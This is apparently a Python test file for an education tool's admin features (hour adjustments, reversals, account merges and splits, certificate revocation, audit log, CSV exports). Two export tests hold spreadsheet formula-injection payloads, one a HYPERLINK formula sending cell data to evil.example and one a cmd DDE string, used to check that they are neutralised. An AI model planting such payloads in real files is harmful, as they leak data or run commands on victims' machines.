"""Program admins: access, finding people, adjustments, reversals, merges, revocation, exports, audit log."""
import csv
import io
import re

import sqlalchemy as sa

from lti_tool.extensions import db
from lti_tool.models import Account, AuditEvent, LedgerEntry, Person


def text(response):
    return response.get_data(as_text=True)


def csrf(html):
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


def admin_home(app, platform, do_launch, runner=None):
    browser = app.test_client()
    home = do_launch(platform, "admin", browser=browser).location
    return browser, home


def test_admin_pages_need_an_lms_admin_granted_program_access(app, client, platform, do_launch, member_launch):
    member_home = member_launch(platform)
    assert client.get(member_home + "admin/").status_code == 403
    browser, home = admin_home(app, platform, do_launch)
    refused = browser.get(home + "admin/")
    assert refused.status_code == 403 and "admins grant" in text(refused)
    result = app.test_cli_runner().invoke(args=["admins", "grant", "--platform", platform.issuer,
                                                "--sub", "user-admin-1"])
    assert result.exit_code == 0, result.output
    assert browser.get(home + "admin/").status_code == 200


def test_admin_finds_a_person_adjusts_reverses_and_revokes(app, client, platform, do_launch, member_launch):
    member_launch(platform)
    browser, home = admin_home(app, platform, do_launch)
    app.test_cli_runner().invoke(args=["admins", "grant", "--platform", platform.issuer, "--sub", "user-admin-1"])
    found = text(browser.get(home + "admin/?q=maria"))
    person_url = re.search(r'href="([^"]+/admin/people/\d+)">Maria Member', found).group(1)
    page = text(browser.get(person_url))
    token = csrf(page)
    request_id = re.search(r'name="request_id" value="([^"]+)"', page).group(1)

    refused = browser.post(person_url + "/adjust", data={"csrf_token": token, "request_id": request_id,
                                                          "module": "power-mapping", "hours": "-4", "reason": "x"})
    assert "Hours must be more than 0." in text(browser.get(refused.location))
    for slug, hours in [("bargaining-foundations", "6"), ("democratized-bargaining", "6"), ("contract-costing", "3"),
                        ("power-mapping", "3"), ("impact-bargaining", "3"), ("esp-bargaining", "3")]:
        page = text(browser.get(person_url))
        request_id = re.search(r'name="request_id" value="([^"]+)"', page).group(1)
        response = browser.post(person_url + "/adjust", data={
            "csrf_token": token, "request_id": request_id, "module": slug, "hours": hours,
            "reason": "Attended at the Winter Conference (sign-in sheet)"})
        assert response.status_code == 303
    page = text(browser.get(person_url))
    assert "24 of 24 hours" in page and "status <strong>issued</strong>" in page

    entry_id = re.search(r'action="[^"]+/entries/(\d+)/reverse"', page).group(1)
    missing_reason = browser.post(f"{person_url}/entries/{entry_id}/reverse", data={"csrf_token": token, "reason": ""})
    assert "needs a reason" in text(browser.get(missing_reason.location))
    browser.post(f"{person_url}/entries/{entry_id}/reverse", data={"csrf_token": token, "reason": "Wrong member"})
    page = text(browser.get(person_url))
    assert "status <strong>review</strong>" in page and "18 of 24 hours" in page
    browser.post(person_url + "/certificate/revoke", data={"csrf_token": token, "reason": "Hours not confirmed"})
    assert "status <strong>revoked</strong>" in text(browser.get(person_url))

    with app.app_context():
        actions = db.session.scalars(sa.select(AuditEvent.action)).all()
        assert {"ledger.adjust", "ledger.reverse", "certificate.issue", "certificate.flag_for_review",
                "certificate.revoke"} <= set(actions)
        assert db.session.scalar(sa.select(sa.func.count()).select_from(LedgerEntry)) == 7
    audit = text(browser.get(home + "admin/audit"))
    assert "ledger.reverse" in audit and "Wrong member" in audit and "Ada Admin" in audit


def test_admin_exports_progress_and_registrations_as_csv(app, client, platform, do_launch, member_launch):
    member_launch(platform)
    browser, home = admin_home(app, platform, do_launch)
    app.test_cli_runner().invoke(args=["admins", "grant", "--platform", platform.issuer, "--sub", "user-admin-1"])
    progress = browser.get(home + "admin/export/progress.csv")
    assert progress.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(text(progress))))
    maria = next(r for r in rows if r["name"] == "Maria Member")
    assert maria["total_hours"] == "0" and maria["requirements_met"] == "no"
    assert "6 more hours of Bargaining Foundations" in maria["still_needed"]
    registrations = list(csv.DictReader(io.StringIO(text(browser.get(home + "admin/export/registrations.csv")))))
    assert registrations[0]["local_association"] == "Springfield Education Association"


def test_admin_merges_two_people(app, make_platform, do_launch, member_launch):
    canvas = make_platform(issuer="https://canvas.instructure.com", client_id="1001", product="canvas")
    moodle = make_platform(product="moodle")
    member_launch(canvas, browser=app.test_client())
    member_launch(moodle, browser=app.test_client())
    browser, home = admin_home(app, moodle, do_launch)
    app.test_cli_runner().invoke(args=["admins", "grant", "--platform", moodle.issuer, "--sub", "user-admin-1"])
    with app.app_context():
        ids = db.session.scalars(sa.select(Person.id).where(Person.name == "Maria Member").order_by(Person.id)).all()
    page = text(browser.get(f"{home}admin/people/{ids[0]}"))
    response = browser.post(f"{home}admin/people/{ids[0]}/merge",
                            data={"csrf_token": csrf(page), "other_person_id": str(ids[1]),
                                  "reason": "Same member in Canvas and Moodle"})
    assert "is merged into this person" in text(browser.get(response.location))
    with app.app_context():
        assert db.session.get(Person, ids[1]) is None
        assert len(db.session.get(Person, ids[0]).accounts) == 2


def test_admin_splits_a_wrongly_merged_account_off_with_a_reason(app, make_platform, do_launch, member_launch):
    canvas = make_platform(issuer="https://canvas.instructure.com", client_id="1001", product="canvas")
    moodle = make_platform(product="moodle")
    member_launch(canvas, browser=app.test_client())
    member_launch(moodle, browser=app.test_client())
    browser, home = admin_home(app, moodle, do_launch)
    app.test_cli_runner().invoke(args=["admins", "grant", "--platform", moodle.issuer, "--sub", "user-admin-1"])
    with app.app_context():
        ids = db.session.scalars(sa.select(Person.id).where(Person.name == "Maria Member").order_by(Person.id)).all()
    page = text(browser.get(f"{home}admin/people/{ids[0]}"))
    browser.post(f"{home}admin/people/{ids[0]}/merge", data={"csrf_token": csrf(page), "other_person_id": str(ids[1]),
                                                              "reason": "Looked like the same member"})
    with app.app_context():
        moved = db.session.scalars(sa.select(Account.id).where(Account.person_id == ids[0])
                                   .order_by(Account.id.desc())).first()
    split_url = f"{home}admin/people/{ids[0]}/accounts/{moved}/split"
    without_reason = browser.post(split_url, data={"csrf_token": csrf(page), "reason": " "})
    assert "needs a reason" in text(browser.get(without_reason.location))
    with app.app_context():
        assert db.session.get(Account, moved).person_id == ids[0]  # nothing changed

    response = browser.post(split_url, data={"csrf_token": csrf(page), "reason": "Two members with one name"})
    assert response.status_code == 303
    assert "split off into a person of its own" in text(browser.get(response.location))
    with app.app_context():
        new_person = db.session.get(Account, moved).person_id
        assert new_person not in (None, ids[0])
        assert len(db.session.get(Person, ids[0]).accounts) == 1
        event = db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == "people.split")).one()
        assert (event.reason, event.person_id, event.details["new_person_id"]) == (
            "Two members with one name", ids[0], new_person)
    # An account that is not this person's is not found here.
    assert browser.post(f"{home}admin/people/{ids[0]}/accounts/{moved}/split",
                        data={"csrf_token": csrf(page), "reason": "again"}).status_code == 404


def grant(app, platform, user_sub="user-admin-1"):
    """Grant program-admin access by LMS identity (platform issuer + sub), as the operator would."""
    result = app.test_cli_runner().invoke(args=["admins", "grant", "--platform", platform.issuer, "--sub", user_sub])
    assert result.exit_code == 0, result.output


def test_exports_neutralise_spreadsheet_formulas(app, client, platform, do_launch, member_launch):
    member_launch(platform, name='=HYPERLINK("http://evil.example/?x="&A1,"Click")', local_association="@SUM(1+1)",
                  email="maria@example.org")
    browser, home = admin_home(app, platform, do_launch)
    grant(app, platform)
    progress = list(csv.reader(io.StringIO(text(browser.get(home + "admin/export/progress.csv")))))
    registrations = list(csv.reader(io.StringIO(text(browser.get(home + "admin/export/registrations.csv")))))
    cells = [cell for row in progress + registrations for cell in row]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")" in cells
    assert "'@SUM(1+1)" in cells
    # No cell a spreadsheet would run: nothing starts with a formula character unless it is a plain number.
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not
                                                                             re.fullmatch(r"-\d+(\.\d+)?", c))]


def test_spreadsheet_safe_cells():
    from lti_tool.services.exports import spreadsheet_safe

    for formula in ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "="]:
        assert spreadsheet_safe(formula) == "'" + formula
    for plain in ["Maria Member", "-6.00", "3", "+4", "2026-11-28T10:00:00", "", "a=b"]:
        assert spreadsheet_safe(plain) == plain
    assert spreadsheet_safe(None) == ""


def _adjust(browser, person_url, request_id, token, **fields):
    data = {"csrf_token": token, "request_id": request_id, "module": "power-mapping", "hours": "3",
            "reason": "Attended at the Winter Conference", **fields}
    response = browser.post(person_url + "/adjust", data=data)
    assert response.status_code == 303
    return text(browser.get(response.location))


def _ledger_and_audit(app):
    with app.app_context():
        entries = db.session.execute(sa.select(LedgerEntry.id, LedgerEntry.account_id, LedgerEntry.hours)
                                     .where(LedgerEntry.source == "admin_adjustment")).all()
        audits = db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == "ledger.adjust")).all()
        return entries, [(a.person_id, a.details["entry_id"]) for a in audits]


def test_adjustment_request_ids_are_per_person_and_a_changed_resubmission_is_refused(app, make_platform, do_launch,
                                                                                    member_launch):
    platform = make_platform()
    platform.users["member2"] = type(platform.users["member"])("user-member-2", "Omar Other", "omar@example.org",
                                                               platform.users["member"].roles)
    member_launch(platform, browser=app.test_client())
    member_launch(platform, "member2", browser=app.test_client(), name="Omar Other", email="omar@example.org")
    browser, home = admin_home(app, platform, do_launch)
    grant(app, platform)
    with app.app_context():
        maria, omar = (db.session.scalar(sa.select(Person.id).where(Person.name == n))
                       for n in ("Maria Member", "Omar Other"))
    maria_url, omar_url = f"{home}admin/people/{maria}", f"{home}admin/people/{omar}"
    page = text(browser.get(maria_url))
    token, request_id = csrf(page), re.search(r'name="request_id" value="([^"]+)"', page).group(1)

    assert "The adjustment is recorded." in _adjust(browser, maria_url, request_id, token)
    # The same form sent again (a double click, a reload): one entry, one audit row, and it says so.
    again = _adjust(browser, maria_url, request_id, token)
    assert "already recorded" in again and "nothing new was written" in again
    # The same request id with other hours for the same person: refused, nothing written.
    changed = _adjust(browser, maria_url, request_id, token, hours="1")
    assert "was already used for a different adjustment" in changed
    # The same request id for someone else is that person's own adjustment, not Maria's entry.
    assert "The adjustment is recorded." in _adjust(browser, omar_url, request_id, token, hours="2")

    entries, audits = _ledger_and_audit(app)
    with app.app_context():
        owner = {e.id: db.session.get(Account, e.account_id).person_id for e in entries}
    assert sorted((owner[e.id], str(e.hours)) for e in entries) == sorted([(maria, "3.00"), (omar, "2.00")])
    # One audit row per entry written, each naming its own person's entry.
    assert sorted(audits) == sorted((owner[e.id], e.id) for e in entries)
